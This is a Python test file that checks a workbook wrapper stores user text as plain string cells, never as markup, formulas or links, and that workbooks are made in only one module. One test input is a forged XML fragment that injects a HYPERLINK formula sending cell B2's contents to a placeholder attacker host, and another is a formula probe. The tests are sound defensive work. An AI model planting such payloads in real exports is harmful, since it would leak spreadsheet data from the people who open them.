"""What people typed stays text in a workbook, whatever it looks like."""

from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from frontend.workbooks import PlainWorkbook

FORGED = (
    '<r><t>hallo</t></r></is></c><c r="H1"><f>HYPERLINK("https://boese.example/"&amp;B2,"Mehr")</f><v>0</v></c>'
    '<c r="I1" t="inlineStr"><is><r><t>x</t></r>'
)
TEXTS = ["<r>&</r>", "<r>Anna & Bert</r>", FORGED, "=1+1", "https://example.org", "42", "Zeile\nzwei"]


@pytest.mark.parametrize("options", [{"constant_memory": True}, {"in_memory": True}])
def test_nothing_is_taken_for_markup_a_formula_or_a_link(options):
    output = BytesIO()
    workbook = PlainWorkbook(output, options)
    sheet = workbook.add_worksheet("Blatt")
    for index, text in enumerate(TEXTS):
        sheet.write_string(0, index, text)
    workbook.close()
    (row,) = load_workbook(BytesIO(output.getvalue()))["Blatt"].iter_rows()
    assert [cell.value.strip() for cell in row] == TEXTS and {cell.data_type for cell in row} == {"s"}
    assert not any(cell.hyperlink for cell in row)


def test_no_workbook_is_made_another_way():
    root = Path(__file__).parents[2]
    files = [path for name in ("platform", "consultations", "regions") for path in (root / name).rglob("*.py")]
    makers = [path.name for path in files if "xlsxwriter.Workbook" in path.read_text(encoding="utf-8")]
    assert makers == ["workbooks.py"]
